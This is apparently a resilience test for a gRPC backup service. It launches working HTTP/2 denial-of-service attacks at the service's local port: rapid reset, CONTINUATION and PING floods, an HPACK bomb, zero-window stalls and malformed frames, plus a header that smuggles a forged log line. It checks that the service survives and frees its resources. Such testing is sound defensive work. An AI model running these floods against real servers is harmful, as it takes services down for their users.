"""HTTP/2 as no library would send it, to the service's port, beside clients that behave."""

import contextlib
import socket
import struct
import time

import http2
from cluster import wait_until
from grpc_client import GrpcClient
from hostile_clients import Beside, check_log_lines, in_a_process, only_victims_are_judged
from http2 import Http2Connection
from journaled_clients import until_served
from oracle import Resources
from scenario import scenario

STATUS = "/backup.v1.AdminService/GetStatus"
DOWNLOAD = "/backup.v1.CatalogService/DownloadFile"
CONNECTIONS = 4
NO_MESSAGE = struct.pack(">BI", 0, 0)
READ_S = 0.001
WAIT_S = 20
# gRPC 1.51 answers every frame, whoever sends it, for which the attackers' cores are the client's, too: it is served, no more.
NOISE_S = 3
# gRPC 1.51 has no bound for calls whose connection has ended before their turn came (docs/faults.md): so much in an attack of SECONDS.
MEMORY = 4 << 30
# SQLite keeps one of each of its connections that ended, for the next one: of as many as there are handlers at once (kMaxCallThreads).
DESCRIPTORS = 256 + 100
SECONDS = (0.7, 3)
LARGEST_TABLE_ENTRY = 4000  # The default table has room for 4096 bytes.


class Attack:
    """Frames on some connections for so long; each that the server closes is made anew."""

    def __init__(self, port, seconds):
        self.port, self.deadline = port, time.monotonic() + seconds
        self.count = 0

    def play(self, burst, *settings, connections=CONNECTIONS, reads=True):
        """burst(connection, number) sends; returns how often it did."""
        open_ones = []
        while time.monotonic() < self.deadline:
            if len(open_ones) < connections:
                with contextlib.suppress(OSError):
                    open_ones.append((Http2Connection(self.port, *settings, timeout=5), [0]))
            for one in list(open_ones):
                connection, number = one
                try:
                    burst(connection, number[0])
                    number[0] += 1
                    self.count += 1
                    if reads:
                        self._drain(connection)
                except OSError:
                    connection.close()
                    open_ones.remove(one)
        for connection, _ in open_ones:
            connection.close()
        return self.count

    @staticmethod
    def _drain(connection):
        connection.socket.settimeout(READ_S)
        try:
            while connection.socket.recv(1 << 16):
                pass
        except TimeoutError:
            pass
        finally:
            connection.socket.settimeout(5)


def stream_of(number, index, many):
    return 2 * (number * many + index) + 1


def headers(stream, path=STATUS, flags=http2.END_HEADERS, more=()):
    return http2.frame(http2.HEADERS, flags, stream, http2.request_headers(path, *more))


def rapid_reset(port, seconds):
    def burst(connection, number):
        for index in range(100):
            stream = stream_of(number, index, 100)
            connection.send(headers(stream), http2.reset(stream))
    return Attack(port, seconds).play(burst)


def reset_of_work(port, seconds):
    """Whole calls, taken back at once."""
    def burst(connection, number):
        for index in range(100):
            stream = stream_of(number, index, 100)
            connection.send(headers(stream), http2.frame(http2.DATA, http2.END_STREAM, stream, NO_MESSAGE), http2.reset(stream))
    return Attack(port, seconds).play(burst)


def continuation_flood(port, seconds):
    def burst(connection, number):
        if number == 0:
            connection.send(headers(1, flags=0))
        connection.send(*[http2.frame(http2.CONTINUATION, 0, 1, http2.literal(f"x-{number}-{index}", b"v" * 100)) for index in range(100)])
    return Attack(port, seconds).play(burst, reads=False)


def empty_continuations(port, seconds):
    def burst(connection, number):
        if number == 0:
            connection.send(headers(1, flags=0))
        connection.send(http2.frame(http2.CONTINUATION, 0, 1) * 1000)
    return Attack(port, seconds).play(burst, reads=False)


def ping_flood(port, seconds):
    return Attack(port, seconds).play(lambda connection, _: connection.send(http2.frame(http2.PING, 0, 0, bytes(8)) * 1000))


def ping_flood_unread(port, seconds):
    """The answers are not taken."""
    return Attack(port, seconds).play(lambda connection, _: connection.send(http2.frame(http2.PING, 0, 0, bytes(8)) * 1000), reads=False)


def settings_flood(port, seconds):
    return Attack(port, seconds).play(lambda connection, number: connection.send(
        http2.settings((http2.INITIAL_WINDOW_SIZE, number % 1000), (http2.HEADER_TABLE_SIZE, number % 4096)) * 200), reads=False)


def priority_flood(port, seconds):
    return Attack(port, seconds).play(lambda connection, number: connection.send(
        http2.frame(http2.PRIORITY, 0, 2 * number + 1, struct.pack(">IB", 0, 1)) * 500))


def hpack_bomb(port, seconds):
    """A large field in the table, named thousands of times in few bytes."""
    def burst(connection, number):
        first = http2.request_headers(STATUS) + http2.literal("bomb", b"b" * LARGEST_TABLE_ENTRY, is_indexed=True)
        if number == 0:
            connection.send(http2.frame(http2.HEADERS, http2.END_HEADERS, 1, first), http2.reset(1))
        block = http2.request_headers(STATUS) + http2.indexed(62) * 16000
        stream = 2 * number + 3
        connection.send(http2.frame(http2.HEADERS, http2.END_HEADERS, stream, block))
    return Attack(port, seconds).play(burst)


def huge_metadata(port, seconds):
    def burst(connection, number):
        stream = 2 * number + 1
        block = http2.request_headers(STATUS, ("x", b"m" * (1 << 20)))
        connection.send(http2.frame(http2.HEADERS, 0, stream, block[:16384]),
                        *[http2.frame(http2.CONTINUATION, 0, stream, block[at:at + 16384]) for at in range(16384, len(block), 16384)],
                        http2.frame(http2.CONTINUATION, http2.END_HEADERS, stream))
    return Attack(port, seconds).play(burst)


def large_te(port, seconds):
    """A field that gRPC knows, larger than it may be, and with what would be a line of the log."""
    def burst(connection, number):
        block = http2.request_headers(STATUS, ("te", b"trailers\nI0101 00:00:00.000000 1 forged.cc:1] all is well" + b"x" * 9000))
        connection.send(http2.frame(http2.HEADERS, http2.END_HEADERS, 2 * number + 1, block))
    return Attack(port, seconds).play(burst)


def many_streams(port, seconds):
    """Calls that are begun and never go on."""
    def burst(connection, number):
        connection.send(*[headers(stream_of(number, index, 200)) for index in range(200)])
    return Attack(port, seconds).play(burst)


def half_messages(port, seconds):
    """Messages that are declared as 4 GiB, and begun."""
    def burst(connection, number):
        connection.send(*[part for index in range(50) for part in (
            headers(stream_of(number, index, 50)),
            http2.frame(http2.DATA, 0, stream_of(number, index, 50), struct.pack(">BI", 0, 0xFFFFFFFF) + b"x" * 100))])
    return Attack(port, seconds).play(burst)


def zero_windows(port, seconds):
    """Answers are asked for, and there is never room for them."""
    def burst(connection, number):
        connection.send(*[part for index in range(50) for part in (
            headers(stream_of(number, index, 50)), http2.frame(http2.DATA, http2.END_STREAM, stream_of(number, index, 50), NO_MESSAGE))])
    return Attack(port, seconds).play(burst, (http2.INITIAL_WINDOW_SIZE, 0))


def window_overflow(port, seconds):
    return Attack(port, seconds).play(lambda connection, number: connection.send(
        headers(2 * number + 1), http2.window_update(2 * number + 1, http2.LARGEST_WINDOW), http2.window_update(0, http2.LARGEST_WINDOW)))


def empty_data(port, seconds):
    def burst(connection, number):
        if number == 0:
            connection.send(headers(1, "/backup.v1.IngestService/UploadFile"))
        connection.send(http2.frame(http2.DATA, 0, 1) * 1000)
    return Attack(port, seconds).play(burst)


def rubbish(port, seconds):
    """Frames of sizes, kinds and streams that cannot be."""
    def burst(connection, number):
        size = (1 << 24) - 1 if number % 3 == 0 else 5
        connection.send(struct.pack(">I", size)[1:] + bytes([number % 256, 0xFF]) + struct.pack(">I", number) + bytes(100))
    return Attack(port, seconds).play(burst)


def no_preface(port, seconds):
    """Connections that say nothing, or only the beginning."""
    deadline, open_ones, count = time.monotonic() + seconds, [], 0
    while time.monotonic() < deadline:
        if len(open_ones) < 200:
            with contextlib.suppress(OSError):
                open_ones.append(socket.create_connection(("127.0.0.1", port), timeout=5))
                open_ones[-1].sendall(http2.PREFACE[:count % 24])
                count += 1
        else:
            time.sleep(0.01)
    for one in open_ones:
        one.close()
    return count


ATTACKS = (rapid_reset, reset_of_work, continuation_flood, empty_continuations, ping_flood, ping_flood_unread, settings_flood, priority_flood,
           hpack_bomb, huge_metadata, large_te, many_streams, half_messages, zero_windows, window_overflow, empty_data, rubbish, no_preface)


def ask(port):
    with GrpcClient(port, timeout=WAIT_S) as api:
        api.call("GetStatus")


@scenario("S13", deadline_s=240)
def http2_abuse(run):
    """rapid reset, floods of frames, HPACK bombs, streams without end, zero windows, huge metadata"""
    beside = Beside(run, noise_s=NOISE_S, service_memory=MEMORY)
    for attack in ATTACKS:
        done = in_a_process(attack, beside.cluster.service_port, run.times(*SECONDS))
        while not done.done():
            beside.measure(attack.__name__, 0.3)
        assert done.result() > 0, f"{attack.__name__} did nothing"
        run.tally.faults += done.result()
        until_served(lambda: ask(beside.cluster.service_port), WAIT_S)
        assert beside.cluster.service.process.poll() is None, attack.__name__
    # A busy machine learns of ended connections one after the other.
    wait_until(lambda: Resources.of(beside.cluster.service).descriptors < DESCRIPTORS, "the service gives descriptors back")
    now = Resources.of(beside.cluster.service)
    run.note(f"http2_abuse: the service keeps {now.memory >> 20} MiB and {now.descriptors} descriptors afterwards")
    beside.judge(but_for=("memory", "descriptors"))
    check_log_lines(beside.cluster)
    only_victims_are_judged(run, beside)
